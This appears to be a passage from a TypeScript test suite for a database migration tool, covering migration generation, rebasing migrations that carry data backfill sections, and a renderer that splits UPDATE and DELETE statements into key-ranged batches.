      ['index_and_check', (s) => { const k = new Table(s, 'klines', { columns: { id: bigint().generatedAlwaysAsIdentity(), symbol: varchar(32).notNull() }, primaryKey: ['id'], indexes: [{ columns: ['symbol'] }], checks: [{ name: 'klines_symbol_upper', expression: 'symbol = upper(symbol)' }] }); void k; positions(s); }, false],
      ['unique_symbol_with_data', (s) => { new Table(s, 'klines', { columns: { id: bigint().generatedAlwaysAsIdentity(), symbol: varchar(32).notNull(), venue: text().notNull() }, primaryKey: ['id'], uniques: [{ columns: ['symbol', 'venue'] }], indexes: [{ columns: ['symbol'] }], checks: [{ name: 'klines_symbol_upper', expression: 'symbol = upper(symbol)' }] }); positions(s); }, true],
      ['rename_and_retype', (s) => { new Table(s, 'klines', { columns: { id: bigint().generatedAlwaysAsIdentity(), ticker: varchar(64).renamedFrom('symbol').notNull(), venue: text().notNull() }, primaryKey: ['id'], uniques: [{ columns: ['ticker', 'venue'] }] }); positions(s, { note: text() }); }, false],
      ['drop_positions', (s) => { new Table(s, 'klines', { columns: { id: bigint().generatedAlwaysAsIdentity(), ticker: varchar(64).notNull(), venue: text().notNull() }, primaryKey: ['id'], uniques: [{ columns: ['ticker', 'venue'] }] }); }, true],
    ];
    for (const [description, define, data] of steps) {
      project.tables.datahub = define;
      const result = generateMigration({ directory: migrationDirectoryOf(project, 'datahub'), model: modelOf(project, 'datahub'), description, data, acceptDataLoss: true, registry: project.registry });
      expect(result.written).toBe(true);
      if (data && result.written) {
        fillData(project, result.migration.id, ['-- +data', "UPDATE datahub.klines SET venue = 'binance' WHERE id < 0;"]);
        expect((await project.cli('rehash', 'datahub')).code).toBe(0);
      }
      const checked = await project.cli('check', 'datahub');
      // Lint findings a generated rewrite needs acknowledged are not this test's subject.
      expect({ description, problems: checked.err.split('\n').filter((l) => l !== '' && !/\[BEDROCK-L\d+\]/.test(l)) }).toEqual({ description, problems: [] });
    }
  });
});

describe('rebase carries the data sections over', () => {
  /** Two branches from the base: ours adds volume with a backfill; theirs adds a venue column. Merged: both files, their sum. */
  async function merged() {
    const ours = await baseProject();
    const theirsRoot = mkdtempSync(path.join(tmpdir(), 'bedrock-theirs-'));
    cpSync(ours.root, theirsRoot, { recursive: true });
    const theirs = testProject(theirsRoot);
    theirs.tables.datahub = klines({ venue: text() });
    expect((await theirs.cli('generate', 'datahub', 'add_venue')).code).toBe(0);
    const { id, text: ourText } = await backfilledVolume(ours);
    const theirsDir = theirs.migrationsDirectory('datahub');
    const theirId = sqlFiles(theirsDir)[1].replace('.sql', '');
    const dir = ours.migrationsDirectory('datahub');
    cpSync(path.join(theirsDir, `${theirId}.sql`), path.join(dir, `${theirId}.sql`));
    cpSync(path.join(theirsDir, 'snapshots', `${theirId}.json`), path.join(dir, 'snapshots', `${theirId}.json`));
    ours.tables.datahub = klines({ venue: text(), volume: numeric(20, 8).notNull() });
    return { project: ours, id, theirId, ourText };
  }

  test('`rebase` (the command as it is) regenerates ours on top of theirs with the backfill at the same place; check passes', async () => {
    const { project, id, theirId } = await merged();
    // Generated on two branches: two heads (theirs is older here, so ours is the one to rebase).
    expect((await project.cli('check', 'datahub')).err).toContain('multiple heads');
    const result = await project.cli('rebase', 'datahub', id);
    expect(result.code).toBe(0);
    const dir = project.migrationsDirectory('datahub');
    const files = sqlFiles(dir);
    expect(files).toHaveLength(3);
    const rebased = parseMigration(files[2], readFileSync(path.join(dir, files[2]), 'utf8'));
    expect(rebased.parent).toBe(theirId);
    expect(rebased.upSteps.map((s) => (s.data ? `${s.data.kind}: ${s.sql}` : s.sql.split('\n')[0]))).toEqual([
      'ALTER TABLE "datahub"."klines" ADD COLUMN "volume" numeric(20,8);',
      'batched: UPDATE datahub.klines SET volume = close * 2 WHERE volume IS NULL;',
      'ALTER TABLE "datahub"."klines" ADD CONSTRAINT "klines_volume_not_null_check" CHECK ("volume" IS NOT NULL) NOT VALID;',
      'ALTER TABLE "datahub"."klines" VALIDATE CONSTRAINT "klines_volume_not_null_check";',
      'ALTER TABLE "datahub"."klines" ALTER COLUMN "volume" SET NOT NULL;',
    ]);
    expect(rebased.dataSections[0].declaration).toEqual({ kind: 'batched', schema: 'datahub', table: 'klines', key: 'id', size: 10000 });
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test('rebaseMigration (for the command line) says where each section went', async () => {
    const { project, id, ourText } = await merged();
    const rebased = rebaseMigration({ directory: migrationDirectoryOf(project, 'datahub'), model: modelOf(project, 'datahub'), id, registry: project.registry });
    if (!rebased.result.written) throw new Error('nothing written');
    const newId = rebased.result.migration.id;
    const oldLine = ourText.split('\n').indexOf('-- +data batched datahub.klines key id size 10000') + 1;
    expect(rebased.lines).toEqual([
      expect.stringMatching(new RegExp(`^datahub: removed ${id}; wrote ${newId}\\.sql on top of \\d{8}_\\d{6}_datahub_add_venue$`)),
      `  carried over the up data section "-- +data batched datahub.klines key id size 10000" (line ${oldLine} of ${id}.sql) to line ${rebased.result.migration.dataSections[0].markerLine} of ${newId}.sql, after the same step as before`,
      `If ${id} was applied to a database, roll it back there first (\`npm run bedrock -- down --service datahub --env <environment>\`).`,
    ]);
    expect(await project.cli('check', 'datahub')).toMatchObject({ code: 0, err: '' });
  });

  test('a section whose step is gone goes where generate puts data, and the line says to check its place', async () => {
    const { project, id } = await merged();
    // Volume's type changed meanwhile: the ADD COLUMN step the section followed is written differently now.
    project.tables.datahub = klines({ venue: text(), volume: numeric(30, 8).notNull() });
    const rebased = rebaseMigration({ directory: migrationDirectoryOf(project, 'datahub'), model: modelOf(project, 'datahub'), id, registry: project.registry });
    expect(rebased.lines[1]).toMatch(/after the expand steps, where generate puts data: the step it followed is not in the regenerated migration, check its place$/);
    if (!rebased.result.written) throw new Error('nothing written');
    expect(rebased.result.migration.upSteps.map((s) => s.data?.kind ?? 'schema')).toEqual(['schema', 'batched', 'schema', 'schema', 'schema']);
  });

  test('a carried section the rules refuse is written all the same (a person wrote it), and named for fixing', async () => {
    const { project, id } = await merged();
    const file = fileOf(project, id);
    writeFileSync(file, readFileSync(file, 'utf8').replace('UPDATE datahub.klines SET volume = close * 2 WHERE volume IS NULL;', 'UPDATE portfolio.positions SET quantity = 0;'));
    const rebased = rebaseMigration({ directory: migrationDirectoryOf(project, 'datahub'), model: modelOf(project, 'datahub'), id, registry: project.registry });
    if (!rebased.result.written) throw new Error('nothing written');
    expect(rebased.result.migration.dataSections[0].sql).toBe('UPDATE portfolio.positions SET quantity = 0;');
    expect(rebased.lines).toContainEqual(expect.stringMatching(/^ {2}data section to fix before `check` passes: datahub: \S+\.sql line \d+: \[BEDROCK-S1\] UPDATE portfolio\.positions touches service portfolio's schema/));
    expect((await project.cli('check', 'datahub')).code).toBe(8);
  });
});

describe('the batch renderer (the statement a batched section runs, batch by batch)', () => {
  const target = { schema: 'datahub', table: 'klines', key: 'id' };

  test('the key range is ANDed to the WHERE, qualified by the target (or its alias); the rest written back exactly', () => {
    expect(batchedStatement('UPDATE datahub.klines SET volume = close * 2 WHERE volume IS NULL;', target)).toEqual({
      target,
      first: 'UPDATE "datahub"."klines" SET "volume" = ("close" * 2) WHERE (("volume" IS NULL) AND ("klines"."id" <= $1))',
      next: 'UPDATE "datahub"."klines" SET "volume" = ("close" * 2) WHERE (("volume" IS NULL) AND ("klines"."id" > $1) AND ("klines"."id" <= $2))',
    });
    expect(batchedStatement('UPDATE datahub.klines SET volume = 0', target).first).toBe('UPDATE "datahub"."klines" SET "volume" = 0 WHERE ("klines"."id" <= $1)');
    expect(batchedStatement("DELETE FROM datahub.klines k USING datahub.symbols s WHERE s.id = k.symbol_id AND (s.delisted OR s.name LIKE 'TEST%')", target).next).toBe(
      'DELETE FROM "datahub"."klines" AS "k" USING "datahub"."symbols" AS "s" WHERE (("s"."id" = "k"."symbol_id") AND ("s"."delisted" OR ("s"."name" LIKE \'TEST%\')) AND ("k"."id" > $1) AND ("k"."id" <= $2))',
    );
  });

  test('strings stay one visible line, whatever they hold', () => {
    const { next } = batchedStatement("UPDATE datahub.klines SET note = E'line\\nbreak', tag = 'it''s' WHERE note IS NULL", target);
    expect(next).toBe('UPDATE "datahub"."klines" SET "note" = E\'line\\nbreak\', "tag" = \'it\'\'s\' WHERE (("note" IS NULL) AND ("klines"."id" > $1) AND ("klines"."id" <= $2))');
  });

  test('what it writes parses back to the statement with the range, over many expression forms', () => {
    const statements = [
      "UPDATE datahub.klines AS k SET note = lower(s.name), n = coalesce(k.n, 0) + 1 FROM datahub.symbols s WHERE s.id = k.symbol_id AND s.name ILIKE 'btc%'",
      "UPDATE datahub.klines SET t = open_time AT TIME ZONE 'UTC', y = EXTRACT(year FROM open_time), s = substring(symbol from 1 for 3), c = CASE WHEN close > 0 THEN 'up' WHEN close < 0 THEN 'down' ELSE NULL END",
      "UPDATE datahub.klines SET x = (SELECT max(v) FROM datahub.t WHERE t.k = klines.id), y = ARRAY[1, -2], z = x::numeric(20,8), w = '{1}'::int[], v = -x",
      "UPDATE datahub.klines SET a = b WHERE c IN (1,2,3) AND d NOT IN (SELECT e FROM datahub.f) AND g = ANY('{1,2}'::int[]) AND h NOT BETWEEN 1 AND 10 AND i IS NOT DISTINCT FROM j AND k IS NOT TRUE",
      "UPDATE datahub.klines SET a = CURRENT_TIMESTAMP, b = NULLIF(c, ''), d = GREATEST(e, 1), f = (g).h, i = j[1:2], k = TRUE, l = NULL, m = B'101', n = 1.5e3, o = 3000000000",
      "DELETE FROM datahub.klines WHERE open_time < now() - interval '90 days' AND NOT EXISTS (SELECT 1 FROM datahub.positions p WHERE p.kline_id = klines.id)",
      "UPDATE datahub.klines SET a = string_agg(x, ',' ORDER BY y DESC NULLS LAST), b = count(DISTINCT z) FILTER (WHERE z > 0), c = x COLLATE \"C\"",
      'UPDATE datahub.klines SET a = 1 WHERE (a, b) = (1, 2) AND ROW(c, d) IS NOT NULL AND e OPERATOR(pg_catalog.+) 1 > 0 AND f SIMILAR TO \'a%\' ESCAPE \'#\'',
    ];
    for (const sql of statements) {
      const { next } = batchedStatement(sql, target);
      const strip = (tree: unknown) => JSON.stringify(tree, (key, value) => (/location|list_start|list_end/.test(key) ? undefined : value));
      const original = parseScript(sql).stmts![0].stmt as unknown as Record<string, Record<string, unknown>>;
      const reparsed = parseScript(next).stmts![0].stmt as unknown as Record<string, Record<string, unknown>>;
      const [kind] = Object.keys(original);
      // Everything but the WHERE is the original's; the WHERE ends with the two bounds.
      expect(strip({ ...reparsed[kind], whereClause: undefined })).toBe(strip({ ...original[kind], whereClause: undefined }));
      expect(next).toMatch(/\("(klines|k)"\."id" > \$1\) AND \("(klines|k)"\."id" <= \$2\)\)$/);
    }
  });

  test('the plan of a batched section: plannedSteps carries its batch plan, which stepBatch renders', async () => {
    const project = await baseProject();
    const { id, text } = await backfilledVolume(project);
    const migration = parseMigration(`${id}.sql`, text);
    const step = migration.upSteps.find((s) => s.data?.kind === 'batched')!;
    const statement = batchedStatement('UPDATE datahub.klines SET volume = close * 2 WHERE volume IS NULL;', { schema: 'datahub', table: 'klines', key: 'id' });
    expect(stepBatch(step, `${id}.sql`)).toEqual({ size: 10000, statement });
    const planned = plannedSteps(migration.upSteps, 'datahub', `${id}.sql`).filter((s) => s.batch !== undefined);
    expect(planned).toEqual([expect.objectContaining({ transactional: true, retrySafe: true, line: migration.dataSections[0].line, batch: { table: { schema: 'datahub', name: 'klines' }, key: 'id', size: 10000, first: statement.first, next: statement.next } })]);
  });
});
